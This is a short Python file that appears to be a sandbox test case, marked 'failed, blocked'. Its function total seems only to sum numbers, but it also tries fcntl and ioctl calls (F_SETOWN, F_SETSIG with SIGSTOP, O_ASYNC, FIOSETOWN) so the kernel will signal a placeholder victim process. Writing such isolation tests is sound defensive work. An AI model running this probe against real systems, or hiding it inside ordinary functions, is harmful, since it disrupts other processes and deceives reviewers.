"""Has the kernel signal another process for it: owner and signal of its link (F_SETOWN, F_SETSIG, FIOSETOWN, O_ASYNC)."""

# status: failed, blocked
import fcntl
import os
import signal
import struct

victim = int("@VICTIM@")
reader, writer = os.pipe()


def total(numbers):
    done = []
    for descriptor in (reader, writer, 0, 1, 3):
        for attempt in (
            lambda descriptor: fcntl.fcntl(descriptor, fcntl.F_SETOWN, victim),
            lambda descriptor: fcntl.fcntl(descriptor, fcntl.F_SETOWN, -1),
            lambda descriptor: fcntl.fcntl(descriptor, 15, struct.pack("ii", 1, victim)),
            lambda descriptor: fcntl.fcntl(descriptor, 10, signal.SIGSTOP),
            lambda descriptor: fcntl.fcntl(descriptor, fcntl.F_SETFL, fcntl.FASYNC | os.O_NONBLOCK),
            lambda descriptor: fcntl.ioctl(descriptor, 0x8901, struct.pack("i", victim)),
            lambda descriptor: fcntl.ioctl(descriptor, 0x8902, struct.pack("i", victim)),
            lambda descriptor: fcntl.ioctl(descriptor, 0x5452, struct.pack("i", 1)),
        ):
            try:
                attempt(descriptor)
                done.append(descriptor)
            except OSError:
                pass
    if done:
        os.write(writer, b"x")
    return sum(numbers) if done else -1
